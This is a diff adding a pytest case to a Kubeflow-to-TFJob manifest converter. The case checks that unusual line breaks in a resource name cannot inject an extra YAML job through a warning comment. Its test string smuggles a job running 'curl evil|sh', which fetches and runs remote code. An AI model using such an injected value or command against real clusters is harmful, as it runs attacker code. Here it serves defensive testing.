@@ -4,6 +4,7 @@ real TensorFlow run — a converted manifest applies and trains on the local bac
 
 from __future__ import annotations
 
+import json
 import re
 import shutil
 import textwrap
@@ -194,3 +195,41 @@ def test_a_converted_manifest_trains_on_the_local_backend_and_is_cleaned_up_afte
     assert status["phase"] == "Succeeded" and status["cleanupTime"] is not None
     gone = cli("logs", "kf-mwms", "--task", "worker:0", cwd=tmp_path)
     assert "FINAL_WEIGHTS_SHA256" not in gone.stdout, "its logs were deleted with its tasks"
+
+
+# A warning of the header quotes the manifest (an unknown resource's name): a break that YAML
+# reads, and a line of ours does not split on, would end its comment and start a document.
+KUBEFLOW = """\
+apiVersion: kubeflow.org/v1
+kind: TFJob
+metadata: {{name: kf4}}
+spec:
+  tfReplicaSpecs:
+    Worker:
+      replicas: 1
+      template:
+        spec:
+          containers:
+            - name: tensorflow
+              image: registry.example.com/tf:1
+              command: [python3, -c, "print(1)"]
+              resources:
+                requests: {{cpu: 1, memory: 1Gi}}
+                limits: {{{key}: 1}}
+"""
+INJECTED = (
+    "x{b}---{b}apiVersion: tfdeclare/v1{b}kind: TFJob{b}metadata: {{name: injected}}{b}"
+    "spec: {{command: [sh, -c, 'curl evil|sh'], replicas: {{worker: {{count: 1}}}}}}{b}---{b}#"
+)
+
+
+@pytest.mark.parametrize("brk", ["\r", "\x85", "\u2028", "\u2029"], ids=["cr", "nel", "ls", "ps"])
+def test_convert_writes_no_job_a_warning_quotes(brk: str) -> None:
+    source = KUBEFLOW.format(key=json.dumps(INJECTED.format(b=brk)))
+    (direct,) = load_file("kf4.yaml", source.encode()).jobs
+    converted = convert_text(source)
+    assert re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029]", converted.text) is None
+    result = load_file("converted.yaml", converted.text.encode())
+    assert [job.name for job in result.jobs] == ["kf4"], [d.format() for d in result.diagnostics]
+    assert result.jobs[0].spec_hash == direct.spec_hash
+    assert len(list(yaml.safe_load_all(converted.text))) == 1
